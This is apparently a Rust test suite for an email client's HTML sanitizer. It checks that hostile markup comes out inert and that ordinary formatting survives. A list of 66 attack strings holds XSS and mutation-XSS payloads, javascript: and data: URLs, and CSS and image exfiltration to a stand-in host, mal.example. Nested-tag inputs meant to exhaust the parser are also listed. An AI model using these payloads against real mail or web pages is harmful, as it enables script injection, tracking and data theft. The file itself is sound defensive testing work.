//! HTML made safe for the console: what attackers send, and what must stay readable.
use centralita::mail::{ReadLimits, SafeHtml, SafeHtmlError, safe_html};
use proptest::prelude::*;

fn message(html: &str) -> Vec<u8> {
    format!(
        "From: a@b.example\r\nSubject: s\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}"
    )
    .into_bytes()
}

fn safe(html: &str) -> SafeHtml {
    safe_html(&message(html), &ReadLimits::default(), &|_| None).unwrap().unwrap_or_default()
}

/// The elements and attributes that may stand in a page of ours.
const ELEMENTS: &str = " a abbr b big blockquote br caption center cite code col colgroup dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr u ul ";
const ATTRIBUTES: &str = " href rel target dir lang title style align start type colspan rowspan valign span src alt width height ";

/// Reads what was made as strictly as it is written: every tag known, every attribute known and
/// in quotes, nothing that runs, loads or moves.
fn check_safe(input: &str, html: &str) {
    let mut rest = html;
    while let Some((text, after)) = rest.split_once('<') {
        assert!(!text.contains('\0'), "{input} → {html}");
        let (tag, tail) = after.split_once('>').unwrap_or_else(|| panic!("{input} → {html}"));
        rest = tail;
        let (name, mut attributes) = tag
            .trim_start_matches('/')
            .split_once(' ')
            .unwrap_or((tag.trim_start_matches('/'), ""));
        assert!(ELEMENTS.contains(&format!(" {name} ")), "<{name}>: {input} → {html}");
        while !attributes.trim().is_empty() {
            let (attribute, after) = attributes
                .trim_start()
                .split_once("=\"")
                .unwrap_or_else(|| panic!("{input} → {html}"));
            let (value, tail) = after.split_once('"').unwrap();
            attributes = tail;
            assert!(
                ATTRIBUTES.contains(&format!(" {attribute} ")),
                "{attribute}: {input} → {html}"
            );
            let lower = value.to_lowercase();
            match attribute {
                "href" => assert!(
                    ["http:", "https:", "mailto:", "tel:", "ftp:"]
                        .iter()
                        .any(|s| lower.trim().starts_with(s)),
                    "{value}: {input}"
                ),
                "src" => assert!(lower.starts_with("/bild/"), "{value}: {input}"),
                "style" => assert!(
                    lower.split(';').all(|d| {
                        let name = d.split(':').next().unwrap_or_default().trim();
                        [
                            "",
                            "text-align",
                            "font-weight",
                            "font-style",
                            "text-decoration",
                            "vertical-align",
                        ]
                        .contains(&name)
                    }) && !lower.contains("url")
                        && !lower.contains("expression"),
                    "{value}: {input}"
                ),
                _ => {}
            }
        }
        if name == "a" && !tag.starts_with('/') && tag.contains("href=") {
            assert!(tag.contains("noreferrer") && tag.contains("noopener"), "{html}");
        }
    }
}

/// Each contains something that would run, load, cover the page or leave it.
const ATTACKS: [&str; 66] = [
    "<script>PWN()</script>",
    "<ScRiPt>PWN()</sCrIpT>",
    "<script/x>PWN()</script>",
    "<scr<script>ipt>PWN()</scr</script>ipt>",
    "<img src=x onerror=PWN()>",
    "<img\tsrc=x\x0conerror\n=PWN()>",
    "<img src=`x` onerror=PWN()>",
    "<svg onload=PWN()>",
    "<svg><animate attributeName=href values=javascript:PWN() /><a><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=PWN()>#x'/></svg>",
    "<svg><foreignObject><iframe onload=PWN()></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=PWN()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=PWN()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWN()>",
    "<noscript><p title=\"</noscript><img src=x onerror=PWN()>\">",
    "<template><img src=x onerror=PWN()></template>",
    "<svg></p><title><a id='</title><img src=x onerror=PWN()>'>",
    "<!--><img src=x onerror=PWN()>-->",
    "<svg><![CDATA[><img src=x onerror=PWN()>]]>",
    "<!--[if gte IE 4]><script>PWN()</script><![endif]-->",
    "<xmp><p title='</xmp><img src=x onerror=PWN()>'>",
    "<a href='javascript:PWN()'>x</a>",
    "<a href='&#106;&#x61;vascript&colon;PWN()'>x</a>",
    "<a href='java\tscript:PWN()'>x</a>",
    "<a href='\u{1}javascript:PWN()'>x</a>",
    "<a href='vbscript:PWN()'>x</a>",
    "<a href='data:text/html,<script>PWN()</script>'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='//mal.example/'>x</a>",
    "<a href='/api/v1/tickets'>x</a>",
    "<iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe>",
    "<iframe srcdoc='<script>PWN()</script>'></iframe>",
    "<object data='javascript:PWN()'></object>",
    "<embed src='javascript:PWN()'>",
    "<meta http-equiv=refresh content='0;url=javascript:PWN()'>",
    "<base href='http://mal.example/'><a href=x>x</a>",
    "<link rel=stylesheet href='http://mal.example/x.css'>",
    "<style>@import 'http://mal.example/x.css';</style>",
    "<p style='background:url(http://mal.example/t)'>x</p>",
    "<p style='width:expression(PWN());text-align:center'>x</p>",
    "<div style='position:fixed;inset:0;z-index:99999'>Sesión caducada</div>",
    "<style>input[value^='1']{background:url(http://mal.example/1)}</style>",
    "<form action='http://mal.example/p'><input name=pin autofocus onfocus=PWN()></form>",
    "<button form=x formaction=javascript:PWN()>x</button>",
    "<details open ontoggle=PWN()>x</details>",
    "<marquee onstart=PWN()>x</marquee>",
    "<video poster='javascript:PWN()' onloadstart=PWN()></video>",
    "<body onload=PWN() onpageshow=PWN()>",
    "<input type=image src=x onerror=PWN()>",
    "<img src='http://mal.example/?",
    "<form id=csrf><input name=token></form><a id=config name=url>x</a>",
    "<a href='http://mal.example/' target=_self ping='http://mal.example/p'>x</a>",
    "<img src='http://mal.example/pixel.gif'>",
    "<img srcset='http://mal.example/a 1x'>",
    "<table background='http://mal.example/b'><tr><td>x",
    "<img src='file:///etc/passwd'>",
    "<img src='\\\\mal.example\\x.png'>",
    "<scr\0ipt>PWN()</scr\0ipt>",
    "<img src=x onerror=PWN() ",
    "<img src=x onerror=1 onerror=PWN()>",
    "<p title='\"><img src=x onerror=PWN()>'>x</p>",
    "<a href=\"https://a.example/&quot; onclick=&quot;PWN()\">x</a>",
    "<textarea><img src=x onerror=PWN()>",
    "<plaintext><img src=x onerror=PWN()>",
    "<p style=\"text-align:center\\3b position:fixed\">x</p>",
    "<img src='cid:none@x' onload=PWN()>",
];

#[test]
fn attacks_leave_nothing_that_acts() {
    for attack in ATTACKS {
        let made = safe(&format!("<p>antes</p>{attack}<p>después</p>"));
        check_safe(attack, &made.html);
        assert!(made.html.contains("antes"), "{attack} → {}", made.html);
    }
    // One after the other in one message, in both directions.
    let mut all: Vec<&str> = ATTACKS.to_vec();
    check_safe("all", &safe(&all.concat()).html);
    all.reverse();
    check_safe("all", &safe(&all.concat()).html);
}

#[test]
fn what_people_write_stays() {
    let html = "<h2>Corte</h2><p style='text-align:center;color:red'>El <b>rack</b> 12</p>\
        <table><tr><td colspan=2>CPD</td></tr></table><ol start=3><li>uno</ol><blockquote>cita</blockquote>";
    assert_eq!(
        safe(html).html,
        "<h2>Corte</h2><p style=\"text-align:center\">El <b>rack</b> 12</p>\
         <table><tbody><tr><td colspan=\"2\">CPD</td></tr></tbody></table><ol start=\"3\"><li>uno</li></ol><blockquote>cita</blockquote>"
    );
    let link = safe("<a href='https://a.example/?a=1&amp;b=2'>ver</a>").html;
    assert!(
        link.contains("href=\"https://a.example/?a=1&amp;b=2\"")
            && link.contains("target=\"_blank\""),
        "{link}"
    );
}

#[test]
fn d4_only_pictures_that_came_along_are_shown() {
    let raw = "From: a@b.example\r\nContent-Type: multipart/related; boundary=o\r\n\r\n--o\r\n\
        Content-Type: text/html; charset=utf-8\r\n\r\n<p>hola<img src=\"cid:foto@x\" width=10 onload=x()><img src='http://mal.example/p' alt='logo'>\
        <img src='cid:mala@x'></p>\r\n--o\r\nContent-Type: image/png; name=foto.png\r\nContent-ID: <foto@x>\r\n\
        Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--o\r\nContent-Type: image/png\r\nContent-ID: <mala@x>\r\n\r\n<svg onload=x()>\r\n--o--\r\n";
    let address = |place: usize| Some(format!("/bild/{place}"));
    let made = safe_html(raw.as_bytes(), &ReadLimits::default(), &address).unwrap().unwrap();
    check_safe(raw, &made.html);
    assert!(made.html.contains("<img src=\"/bild/0\" width=\"10\">logo"), "{}", made.html);
    assert_eq!((made.images_blocked, made.html.matches("<img").count()), (2, 1));
}

#[test]
fn a_message_without_html_or_with_a_code_has_none() {
    let none = |raw: &[u8]| safe_html(raw, &ReadLimits::default(), &|_| None).unwrap().is_none();
    assert!(none(b"From: a@b.example\r\n\r\nhola"));
    assert!(none(b""));
    assert!(none(&message("<p>Mi PIN es <b>47</b>11</p>")));
    assert!(!none(&message("<p>Mi rack es 4711</p>")));
}

#[test]
fn d5_html_that_is_too_much_is_refused() {
    let made = |html: &str| safe_html(&message(html), &ReadLimits::default(), &|_| None);
    assert!(matches!(made(&"x".repeat(1_100_000)), Err(SafeHtmlError::TooLong { .. })));
    assert!(matches!(made(&"<b>".repeat(30_000)), Err(SafeHtmlError::TooManyTags { .. })));
}

/// What makes a browser's reader slow, at the most that is let through.
pub(crate) fn heavy() -> Vec<(&'static str, String)> {
    let open: String = (0..9_000).map(|n| format!("<b title={n}>")).collect();
    let attributes: String = (0..10_000).map(|n| format!(" a{n}=b")).collect();
    vec![
        ("formatting", format!("{open}{}", "<p>x".repeat(9_000))),
        ("formatting-misnested", "<b><i><u><p></b>x".repeat(4_000)),
        ("deep", "<div>".repeat(19_000)),
        ("tables", "<table><tr><td>".repeat(6_000)),
        ("foster", format!("<table>{}", "<b>x<tr>".repeat(6_000))),
        ("quotes", "<blockquote>".repeat(19_000)),
        ("attributes", format!("<p{attributes}>x")),
        ("links", "<a href='http://x.example/'>y</a>".repeat(9_000)),
        ("entities", "&nbsp;".repeat(170_000)),
        ("unclosed", "<a href=\"".repeat(100_000)),
        ("comments", "<!--".repeat(200_000)),
        ("anchors", "<a href='http://x.example/'><div>".repeat(9_000)),
        ("lists", "<ul><li><p>".repeat(6_000)),
    ]
}

#[test]
fn d5_the_heaviest_that_is_let_through_is_made_on_a_small_stack() {
    let made = std::thread::Builder::new().stack_size(super::STACK_BYTES).spawn(|| {
        for (name, html) in heavy() {
            let made = safe_html(&message(&html), &ReadLimits::default(), &|_| None);
            if let Ok(Some(made)) = made {
                check_safe(name, &made.html);
                assert!(made.html.len() < 12 * html.len() + 1_000, "{name}: {}", made.html.len());
            }
        }
    });
    made.unwrap().join().unwrap();
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]
    #[test]
    fn pieces_of_attacks_leave_nothing_that_acts(
        pieces in proptest::collection::vec((0..ATTACKS.len(), 0..120_usize, 0..120_usize), 1..8),
    ) {
        let mut html = String::new();
        for (at, from, length) in pieces {
            html.extend(ATTACKS[at].chars().skip(from % 40).take(length));
        }
        check_safe(&html, &safe(&html).html);
    }
}
